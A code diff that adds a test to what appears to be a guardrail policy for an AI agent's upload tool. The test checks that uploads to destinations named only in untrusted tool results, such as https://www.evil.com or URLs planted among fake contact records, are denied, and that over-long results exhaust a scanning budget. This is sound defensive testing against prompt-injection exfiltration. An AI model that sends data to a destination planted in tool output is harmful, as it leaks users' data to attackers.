@@ -197,3 +197,22 @@ def test_ungluing_a_result_is_charged(upload: guardrails.PolicySet) -> None:
     hidden = upload.evaluate(tool="upload", args={"url": "https://www.evil.com"},
                              history=few, request="Summarise the news")
     assert (hidden.effect, _errors(hidden)) == ("deny", [])
+
+
+def test_reading_a_result_s_fields_is_charged(upload: guardrails.PolicySet) -> None:
+    """A result that names the value is read field by field to tell whether one of them
+    is the value whole (``Origins.whole``: each line and quoted string, about 1 µs of
+    Python each): 100 untrusted results of 13,000 lines each cost one call 1.4-1.6 s,
+    charged an eighth of a unit a character. Each line and quoted string is charged now
+    (``FIELD_COST``), before they are read; a result of a few hundred records still is."""
+    url = "https://acme.com/x"
+    lines = _history([(f"{url} {i}\n" + "a: b\n" * (K // 5))[:K] for i in range(100)])
+    decision = upload.evaluate(tool="upload", args={"url": url}, history=lines,
+                               request="Summarise")
+    assert decision.effect == "deny"
+    assert any("scanning budget" in m for m in _errors(decision))
+    records = "\n".join(f"- name: contact {i}\n  email: 'c{i}@example.com'" for i in range(300))
+    found = upload.evaluate(tool="upload", args={"url": url}, request="Summarise",
+                            history=_history([records + f"\nurl: {url}\n"] * 3))
+    assert (found.effect, _errors(found)) == ("deny", [])
+    assert [f.rule for f in found.rules] == ["injected-destination"]
